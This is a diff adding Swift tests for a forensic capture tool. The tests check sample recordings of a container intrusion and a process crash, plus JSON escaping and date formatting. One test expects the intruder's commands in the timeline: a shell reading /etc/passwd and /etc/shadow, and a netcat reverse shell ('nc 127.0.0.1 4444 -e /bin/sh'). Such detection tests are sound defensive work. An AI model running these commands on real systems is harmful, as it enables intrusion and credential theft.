@@ -1,0 +1,121 @@
+import CaptureFormat
+import Digests
+import Events
+import Interchange
+import JSON
+import Posix
+import Reconstruction
+import Testing
+
+/// The samples of captures/v1: what happened is written in captures/README.md, and must be read out of them for ever.
+@Suite struct SampleTests {
+  private static let directory: String = {
+    let parts = #filePath.split(separator: "/").dropLast(3)
+    return "/" + parts.joined(separator: "/") + "/captures/v1"
+  }()
+
+  private func open(_ name: String) throws -> CaptureFile { try CaptureFile(path: Self.directory + "/" + name) }
+
+  private func timeline(_ file: CaptureFile) throws -> [JSONValue] {
+    var merge = EventMerge(file, entries: file.directory)
+    let exporter = try TimelineExporter(file)
+    var objects: [JSONValue] = []
+    while let event = try merge.next() {
+      var json = JSONText()
+      exporter.write(event, to: &json)
+      objects.append(try JSONValue(parsing: json.bytes))
+    }
+    return objects
+  }
+
+  @Test(arguments: ["web-shell.pcapng", "crash.pcapng"])
+  func `a sample is what it was when it was made`(name: String) throws {
+    let sums = String(decoding: try FileDescriptor.contents(of: Self.directory + "/SHA256SUMS"), as: UTF8.self)
+    let bytes = try FileDescriptor.contents(of: Self.directory + "/" + name, limit: 1 << 24)
+    let digest = SHA256.digest(bytes).map { ($0 < 16 ? "0" : "") + String($0, radix: 16) }.joined()
+    #expect(sums.split(separator: "\n").contains("\(digest)  \(name)"))
+  }
+
+  @Test(arguments: [("web-shell.pcapng", "shop-web", "shop/web:1.4"), ("crash.pcapng", "billing", "shop/billing:2.0")])
+  func `a sample is complete and names its container`(name: String, container: String, image: String) throws {
+    let file = try open(name)
+    #expect(file.completeness?.isComplete == true)
+    #expect(try file.losses().isEmpty)
+    #expect(file.problems.isEmpty)
+    let rows = try file.containers()
+    #expect(rows.map(\.name) == [container])
+    #expect(rows.map(\.image) == [image])
+    #expect(rows.first?.runtime == "docker")
+    for entry in file.directory { #expect(try file.verify(entry)) }
+  }
+
+  @Test func `the intruder's shell, what it read and where it called are in the sample`() throws {
+    let events = try timeline(open("web-shell.pcapng"))
+    let lines = events.compactMap { $0["process.command_line"]?.string }
+    #expect(lines.contains { $0.contains("cat /etc/passwd /etc/shadow") && $0.hasPrefix("sh -c") })
+    #expect(lines.contains("nc 127.0.0.1 4444 -e /bin/sh"))
+    #expect(events.contains { $0["file.path"]?.string == "/etc/shadow" && $0["aftertrace.kind"]?.string == "file.open" })
+    let call = try #require(events.first { $0["destination.port"]?.integer == 4444 })
+    #expect(call["destination.ip"]?.string == "127.0.0.1")
+    #expect(call["event.outcome"]?.string == "failure")
+    #expect(call["error.code"]?.string == "-ECONNREFUSED")
+    #expect(events.allSatisfy { $0["container.name"]?.string == "shop-web" })
+  }
+
+  @Test func `the crash is in the sample: who died, of what, and what its shell said`() throws {
+    let file = try open("crash.pcapng")
+    let history = try ProcessHistory(of: file)
+    let billing = try #require(history.processes.first { $0.comm == Array("billing".utf8) })
+    #expect(billing.exitCode.map { ExitStatus(waitStatus: $0) } == .killed(signal: 11, dumpedCore: false))
+    let shell = try #require(billing.parent.flatMap { history[$0] })
+    #expect(shell.exitCode.map { ExitStatus(waitStatus: $0) } == .exited(code: 139))
+    let events = try timeline(file)
+    let end = try #require(events.last { $0["process.pid"]?.integer == Int64(billing.key.pid) })
+    #expect(end["process.exit_code"]?.integer == 139)
+    #expect(end["aftertrace.signal"]?.string == "SIGSEGV")
+    #expect(events.contains { $0["file.path"]?.string == "/data/ledger.txt" && $0["aftertrace.kind"]?.string == "file.write" })
+  }
+
+  @Test(arguments: ["web-shell.pcapng", "crash.pcapng"])
+  func `without its footer a sample tells the same processes`(name: String) throws {
+    let whole = try open(name)
+    let bytes = try FileDescriptor.contents(of: Self.directory + "/" + name, limit: 1 << 24)
+    let end = try #require(whole.directory.map { $0.offset + UInt64($0.length) }.max())
+    let cut = try CaptureFile(bytes: Array(bytes.prefix(Int(end))), path: name)
+    #expect(!cut.hasFooter)
+    #expect(cut.directory.count == whole.directory.count)
+    let known = try ProcessHistory(of: whole)
+    for process in try ProcessHistory(of: cut).processes where process.eventCount == nil && process.end != nil {
+      #expect(known[process.key]?.exitCode == process.exitCode)
+      #expect(known[process.key]?.arguments == process.arguments)
+    }
+  }
+}
+
+@Suite struct JSONTextTests {
+  @Test func `strings are escaped so that any reader takes them`() throws {
+    var json = JSONText()
+    json.beginObject()
+    json.set("text", "a\"b\\c\n\u{1b}\u{7f}ü")
+    json.set("bytes", [0xff, 0x41] as [UInt8])
+    json.set("list", strings: ["x", "y"])
+    json.endObject()
+    let value = try JSONValue(parsing: json.bytes)
+    #expect(value["text"]?.string == "a\"b\\c\n\u{1b}\u{7f}ü")
+    #expect(value["bytes"]?.string == "\u{fffd}A")
+    #expect(value["list"]?.elements.map(\.string) == ["x", "y"])
+  }
+}
+
+@Suite struct CalendarTimeTests {
+  @Test(arguments: [
+    (0, "1970-01-01T00:00:00.000000+00:00"), (1_795_466_467_123_456_789, "2026-11-23T20:41:07.123456+00:00"),
+    (951_782_400_000_000_000, "2000-02-29T00:00:00.000000+00:00"), (-1, "1969-12-31T23:59:59.999999+00:00"),
+  ] as [(Int64, String)]) func `wall times are dates of the calendar`(nanoseconds: Int64, text: String) {
+    #expect(CalendarTime(WallTime(nanoseconds: nanoseconds)).iso8601() == text)
+  }
+
+  @Test func `an offset shifts the hour and is said`() {
+    #expect(CalendarTime(WallTime(nanoseconds: 0), offset: 5400).iso8601(digits: 0) == "1970-01-01T01:30:00+01:30")
+  }
+}
